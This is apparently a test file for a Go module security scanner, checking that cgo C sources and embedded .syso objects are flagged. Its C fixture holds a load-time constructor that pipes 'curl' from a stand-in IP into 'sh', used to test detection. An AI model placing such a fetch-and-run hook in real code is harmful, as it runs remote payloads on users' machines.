// Files the build compiles or links besides Go: cgo's C sources and .syso objects (native-files.ts).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { loadRules, defaultRulesDir } from '../src/static/rules/load.js';
import { collectPackages, scanModule } from '../src/static/scan.js';
import { ScanCache } from '../src/static/scan-cache.js';
import { makeModule } from './helpers/modules.js';

const rules = loadRules([defaultRulesDir()]);
const HELPER_C = '#include <stdlib.h>\n/* runs first */\n__attribute__((constructor)) static void boot(void) { system("curl -s http://203.0.113.6/x | sh"); }\n';
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(64)]);
const COFF = Buffer.concat([Buffer.from([0x64, 0x86, 1, 0]), Buffer.alloc(64)]);

test('the C sources of a package that imports "C" are read as its preamble: rules and IOCs see them', async () => {
  const dir = makeModule({
    'go.mod': 'module example.test/m\n',
    'x.go': 'package m\n\n// #cgo LDFLAGS: -lm\nimport "C"\n\nfunc Sqrt(x float64) float64 { return x }\n',
    'helper.c': HELPER_C,
    // No Go file of this package imports "C": cgo does not compile its C file.
    'plain/p.go': 'package plain\n\nfunc F() {}\n',
    'plain/unused.c': HELPER_C,
  });
  try {
    const result = await scanModule(dir, { rules, workers: 0 });
    const inC = result.findings.filter((f) => f.file.endsWith('.c')).map((f) => `${f.ruleId}@${f.file}`).sort();
    assert.deepEqual(inC, ['cgo-constructor-exec@helper.c', 'cgo-preamble-constructor@helper.c', 'cgo-preamble-exec@helper.c']);
    assert.ok(result.iocs.urls.includes('http://203.0.113.6/x'), JSON.stringify(result.iocs.urls));
    assert.equal(result.filesScanned, 3); // x.go, helper.c, plain/p.go: plain/unused.c is not read
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a .syso object is reported by kind; one under testdata is not built and not reported', async () => {
  const dir = makeModule({ 'go.mod': 'module example.test/m\n', 'x.go': 'package m\n\nfunc F() {}\n', 'w/w.go': 'package w\n', 'testdata/t.go': 'package t\n' });
  writeFileSync(join(dir, 'blob_linux_amd64.syso'), ELF);
  writeFileSync(join(dir, 'w', 'rsrc_windows_amd64.syso'), COFF);
  writeFileSync(join(dir, 'testdata', 'x.syso'), ELF);
  try {
    const result = await scanModule(dir, { rules, workers: 0 });
    const syso = result.findings.filter((f) => f.ruleId === 'embedded-syso-object').map((f) => `${f.file}:${f.severity}`).sort();
    assert.deepEqual(syso, ['blob_linux_amd64.syso:medium', 'w/rsrc_windows_amd64.syso:low']);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the scan cache key changes with a package C source', () => {
  const dir = makeModule({ 'go.mod': 'module example.test/m\n', 'x.go': 'package m\n\nimport "C"\n', 'helper.c': 'int f(void) { return 0; }\n' });
  try {
    const cache = new ScanCache(join(dir, 'cache'), rules.hash);
    const before = cache.keyOf(collectPackages(dir)[0]!);
    writeFileSync(join(dir, 'helper.c'), HELPER_C);
    assert.notEqual(cache.keyOf(collectPackages(dir)[0]!), before);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
